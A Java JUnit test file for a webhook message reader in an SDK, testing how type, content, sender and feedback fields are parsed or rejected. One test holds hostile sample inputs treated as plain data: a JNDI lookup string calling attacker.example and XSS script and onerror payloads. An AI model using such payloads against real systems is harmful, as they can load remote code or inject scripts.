package dev.maigw.sdk.webhook;

import static dev.maigw.sdk.webhook.Rejections.READER;
import static dev.maigw.sdk.webhook.Rejections.assertRejected;
import static dev.maigw.sdk.webhook.WebhookFormatProblem.INVALID_FIELD;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Type, content, sender and feedback: W3, W4, W6, W9, W10, W11 and docs/reliability.md §c cases
 * 39–41.
 */
class MessageReaderTest {

  @Test
  void readsCleanReplyWithoutWarnings() {
    WebhookMessage message = READER.read(Replies.valid().bytes());

    assertThat(message.type()).isEqualTo("outgoing");
    assertThat(message.content()).isEqualTo("Returns are accepted within 7 days of delivery.");
    assertThat(message.isAiReply()).isTrue();
    assertThat(message.warnings()).isEmpty();
  }

  @Test
  void keepsTypeTextAsSent() {
    WebhookMessage message = READER.read(Replies.valid().with("type", "OUTGOING").bytes());

    assertThat(message.type()).isEqualTo("OUTGOING");
    assertThat(message.isAiReply()).isTrue();
  }

  @Test
  void readsIncomingTypeAsNotAnAiReply() {
    assertThat(READER.read(Replies.valid().with("type", "incoming").bytes()).isAiReply()).isFalse();
  }

  @Test
  void readsMissingTypeAsNull() {
    WebhookMessage message = READER.read(Replies.valid().without("type").bytes());

    assertThat(message.type()).isNull();
    assertThat(message.isAiReply()).isFalse();
  }

  @Test
  void rejectsTypeThatIsNotAString() {
    assertRejected(
        Replies.valid().with("type", 1).bytes(),
        INVALID_FIELD,
        "Field 'type' must be a string, not an integer.");
  }

  @Test
  void readsMissingContentAsEmpty() {
    assertThat(READER.read(Replies.valid().without("content").bytes()).content()).isEmpty();
  }

  @Test
  void readsNullContentAsEmpty() {
    assertThat(READER.read(Replies.valid().with("content", null).bytes()).content()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "{\"text\":\"hi\"} | an object",
        "[\"hi\"] | an array",
        "7 | an integer",
        "false | a boolean"
      })
  void rejectsContentOfImpossibleType(String raw, String type) {
    assertRejected(
        Replies.valid().withRaw("content", raw).bytes(),
        INVALID_FIELD,
        "Field 'content' must be a string, not " + type + ".");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "line one\r\nline two",
        "\u001b[31mred\u001b[0m",
        "${jndi:ldap://attacker.example/a}",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>"
      })
  void keepsHostileLookingContentAsSent(String content) {
    assertThat(READER.read(Replies.valid().with("content", content).bytes()).content())
        .isEqualTo(content);
  }

  @Test
  void readsNumericSenderIdAsText() {
    assertThat(READER.read(Replies.valid().with("sender.id", 789).bytes()).sender().id())
        .isEqualTo("789");
  }

  @Test
  void readsStringSenderIdAsSent() {
    byte[] body = Replies.valid().with("sender.id", "be6a886a-6526-421f").bytes();

    assertThat(READER.read(body).sender().id()).isEqualTo("be6a886a-6526-421f");
  }

  @Test
  void readsMissingSenderAsAllNull() {
    WebhookMessage message = READER.read(Replies.valid().without("sender").bytes());

    assertThat(message.sender()).isEqualTo(new Sender(null, null, null));
    assertThat(message.warnings()).isEmpty();
  }

  @Test
  void readsNullSenderAsAllNull() {
    assertThat(READER.read(Replies.valid().with("sender", null).bytes()).sender())
        .isEqualTo(new Sender(null, null, null));
  }

  @Test
  void rejectsSenderThatIsNotAnObject() {
    assertRejected(
        Replies.valid().with("sender", "bot").bytes(),
        INVALID_FIELD,
        "Field 'sender' must be an object, not a string.");
  }

  @Test
  void keepsAvatarInAngleBracketsAsSent() {
    byte[] body = Replies.valid().with("sender.avatar", "<https://example.com/avatar.jpg>").bytes();

    assertThat(READER.read(body).sender().avatar()).isEqualTo("<https://example.com/avatar.jpg>");
  }

  @Test
  void keepsEmptySenderName() {
    assertThat(READER.read(Replies.valid().with("sender.name", "").bytes()).sender().name())
        .isEmpty();
  }

  @Test
  void readsScalarSenderNameOfOtherTypeAsText() {
    assertThat(READER.read(Replies.valid().with("sender.name", true).bytes()).sender().name())
        .isEqualTo("true");
  }

  @Test
  void ignoresSenderAvatarThatIsAnObjectWithWarning() {
    byte[] body =
        Replies.valid().with("sender.avatar", Replies.json("{\"url\":\"https://x\"}")).bytes();

    WebhookMessage message = READER.read(body);

    assertThat(message.sender().avatar()).isNull();
    assertThat(message.warnings())
        .containsExactly("sender.avatar is an object, not a string; ignored.");
  }

  @Test
  void readsNullFeedbackAsNull() {
    assertThat(READER.read(Replies.valid().bytes()).feedback()).isNull();
  }

  @Test
  void readsMissingFeedbackAsNull() {
    assertThat(READER.read(Replies.valid().without("feedback").bytes()).feedback()).isNull();
  }

  @Test
  void keepsObjectFeedback() {
    byte[] body = Replies.valid().with("feedback", Replies.json("{\"rating\":\"like\"}")).bytes();

    assertThat(READER.read(body).feedback()).isEqualTo(Replies.json("{\"rating\":\"like\"}"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "like", "dislike"})
  void keepsStringFeedback(String feedback) {
    byte[] body = Replies.valid().with("feedback", feedback).bytes();

    assertThat(READER.read(body).feedback().stringValue()).isEqualTo(feedback);
  }

  @Test
  void ignoresUnknownTopLevelFields() {
    byte[] body =
        Replies.valid()
            .with("citationNodes", Replies.json("[{\"score\":0.87,\"displayScore\":\"87%\"}]"))
            .with("somethingNew", Replies.json("{\"nested\":[1,2,3]}"))
            .bytes();

    WebhookMessage message = READER.read(body);

    assertThat(message).isEqualTo(READER.read(Replies.valid().bytes()));
  }
}
